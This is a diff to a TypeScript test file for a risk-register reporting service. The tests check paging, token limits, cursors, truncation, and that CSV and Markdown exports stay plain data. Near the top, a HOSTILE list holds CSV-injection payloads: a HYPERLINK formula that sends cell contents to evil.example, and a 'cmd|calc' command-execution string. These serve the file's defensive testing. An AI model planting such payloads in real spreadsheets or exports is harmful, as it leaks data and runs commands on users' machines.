@@ -1,4 +1,4 @@
-/** Reports of many and of hostile records: what fits an answer, and what their texts cannot do. */
+/** Reports of many records and of hostile texts. */
 import { parse } from 'csv-parse/sync';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
@@ -7,7 +7,7 @@ import { type Answer, startRegister, type TestRegister } from '../support/regist
 import { type Ask, digestOfAnswer, rowsOf, textOfReport, wholeReport } from '../support/reports.ts';
 
 const RISKS = 1_200;
-/** Texts that are a formula, markup, or many tokens, where a careless writer lets them. */
+/** Texts that a careless renderer would turn into a formula, markup or very many tokens. */
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   '+1+cmd|calc',
@@ -58,7 +58,7 @@ test.before(async (context) => {
 });
 test.after(({ register }) => register.stop());
 
-test('the pages of JSON hold every row once, and together have the digest', async ({ ask }) => {
+test('JSON pages have every row once, and together give the digest', async ({ ask }) => {
   const report = await wholeReport(ask, { type: 'RISK_REGISTER' });
   assert.ok(report.pages > 3);
   const ids = rowsOf(report, 'risks').map(({ id }) => id);
@@ -66,27 +66,27 @@ test('the pages of JSON hold every row once, and together have the digest', asyn
   assert.is(digestOfAnswer(report), report.digest);
 });
 
-test('so do those of changes, of which each page goes on behind the last row of the one before', async ({ ask }) => {
+test('pages of changes do so too, each continuing after the last row of the page before', async ({ ask }) => {
   const report = await wholeReport(ask, { type: 'CHANGES_BETWEEN', from: '1' });
   assert.ok(report.pages > 3);
   assert.is(digestOfAnswer(report), report.digest);
 });
 
-test('a page of Markdown is at most 20,000 tokens and says what is left out', async ({ ask }) => {
+test('a page of Markdown is at most 20,000 tokens and says how many rows follow', async ({ ask }) => {
   const { pages } = await textOfReport(ask, { type: 'RISK_REGISTER' });
   assert.ok(pages.length > 1);
   let rows = 0;
   for (const [index, page] of pages.entries()) {
     const tokens = tokensOf(page);
     assert.ok(tokens <= 20_000, `${tokens} tokens`);
-    assert.is(/^Left out: /m.test(page), index < pages.length - 1);
+    assert.is(/^More rows: /m.test(page), index < pages.length - 1);
     rows += page.split('\n').filter((line) => line.startsWith('| R-')).length;
   }
   assert.is(rows, RISKS);
   assert.ok(tokensOf(pages[0]!) > 5_000, 'a page is not wasted');
 });
 
-test('what is in the register stays data in Markdown', async ({ ask }) => {
+test('texts of the register stay data in Markdown', async ({ ask }) => {
   const { pages } = await textOfReport(ask, { type: 'RISK_REGISTER' });
   const rows = pages.flatMap((page) => page.split('\n').filter((line) => line.startsWith('| R-')));
   const columns = rows.map((row) => row.replace(/\\[\s\S]/g, '').split('|').length);
@@ -97,7 +97,7 @@ test('what is in the register stays data in Markdown', async ({ ask }) => {
   }
 });
 
-test('so do names of frameworks in headings and figures', async ({ register, ask }) => {
+test('names of frameworks do so too, in headings and figures', async ({ register, ask }) => {
   const { organizationId: organization_id } = register;
   const controls = [{ section_title: '1', name: 'Only one' }];
   const adopt = async (name: string) => {
@@ -120,7 +120,7 @@ test('so do names of frameworks in headings and figures', async ({ register, ask
   }
 });
 
-test('CSV is one table that spreadsheets take for texts', async ({ ask }) => {
+test('CSV is one table without formulas', async ({ ask }) => {
   const { pages } = await textOfReport(ask, { type: 'RISK_REGISTER', format: 'CSV' });
   assert.ok(pages.length > 1);
   const lines = parse(pages.join(''), { columns: true }) as Record<string, string>[];
@@ -134,7 +134,7 @@ test('CSV is one table that spreadsheets take for texts', async ({ ask }) => {
   }
 });
 
-test('a cursor is of one report, one format and one account', async ({ register, ask }) => {
+test('a cursor belongs to one report, one format and one account', async ({ register, ask }) => {
   const { organizationId: organization_id } = register;
   const { next_cursor: cursor } = (await ask({ type: 'RISK_REGISTER' })) as { next_cursor: string };
   for (const other of [
@@ -147,10 +147,7 @@ test('a cursor is of one report, one format and one account', async ({ register,
   }
 });
 
-test('a page that goes on works out no figures, and reads no section that ended before it', async ({
-  register,
-  ask,
-}) => {
+test('a later page computes no figures and reads no section that ended before it', async ({ register, ask }) => {
   const { models } = register.projections;
   const first = (await ask({ type: 'RISK_REGISTER', format: 'JSON' })) as { next_cursor: string };
   const counting = models.count;
@@ -169,13 +166,13 @@ test('a page that goes on works out no figures, and reads no section that ended 
   }
 });
 
-test('a report goes on from its own position, whatever is written meanwhile', async ({ register, ask }) => {
+test('later pages show the first page’s position, whatever is written meanwhile', async ({ register, ask }) => {
   const { organizationId: organization_id } = register;
   const before = await wholeReport(ask, { type: 'RISK_REGISTER' });
-  let asked = 0;
+  let calls = 0;
   const during = await wholeReport(
     async (input) => {
-      if (asked++ === 1)
+      if (calls++ === 1)
         await register.call('addRisk', { organization_id, name: 'Late', inherent_likelihood: 5, inherent_impact: 5 });
       return ask(input);
     },
@@ -188,7 +185,7 @@ test('a report goes on from its own position, whatever is written meanwhile', as
   assert.is.not(after.digest, before.digest);
 });
 
-test('a record that alone is too large is cut, and says so', async ({ register, ask }) => {
+test('a record too large for an answer is cut, and says so', async ({ register, ask }) => {
   const { organizationId: organization_id } = register;
   const add = (text: string) => {
     const texts = { description: text, root_cause: text, corrective_action: text, effectiveness_check: text };
@@ -198,7 +195,7 @@ test('a record that alone is too large is cut, and says so', async ({ register, 
   const whole = await wholeReport(ask, { type: 'NONCONFORMITIES' });
   assert.is(rowsOf(whole, 'nonconformities')[0]!.truncated, undefined, 'what an answer has room for is whole');
   assert.is(digestOfAnswer(whole), whole.digest);
-  // Each quotation mark takes two characters of JSON.
+  // JSON writes each quotation mark with two characters.
   const { nonconformity } = await add('"a" '.repeat(2_400));
   const answer = await wholeReport(ask, { type: 'NONCONFORMITIES' });
   const row = rowsOf(answer, 'nonconformities').find(({ id }) => id === (nonconformity as { id: string }).id);
@@ -207,7 +204,7 @@ test('a record that alone is too large is cut, and says so', async ({ register, 
   assert.is(answer.truncated, true, 'so of the whole report it cannot be worked out here');
 });
 
-test('a control with very many measures has the newest of them, and how many there are', async ({ register, ask }) => {
+test('a control with very many measures has the newest ones and their number', async ({ register, ask }) => {
   const { organizationId: organization_id } = register;
   const controls = [{ section_title: 'H.1', name: 'House rule' }];
   const { framework } = await register.call<Record<string, Answer>>('addFramework', {
@@ -234,10 +231,10 @@ test('a control with very many measures has the newest of them, and how many the
   const [control] = rowsOf(report, 'controls') as [{ measures: Answer[]; measures_total: number; truncated?: true }];
   assert.equal([control.measures_total, control.truncated], [130, undefined]);
   assert.is(control.measures.length, 100);
-  const shown = new Set(control.measures.map(({ id }) => id));
+  const newest = new Set(control.measures.map(({ id }) => id));
   assert.ok(
-    ids.slice(65).every((id) => shown.has(id)),
-    'the newest links are told',
+    ids.slice(65).every((id) => newest.has(id)),
+    'the newest links are there',
   );
   assert.is(digestOfAnswer(report), report.digest);
 });
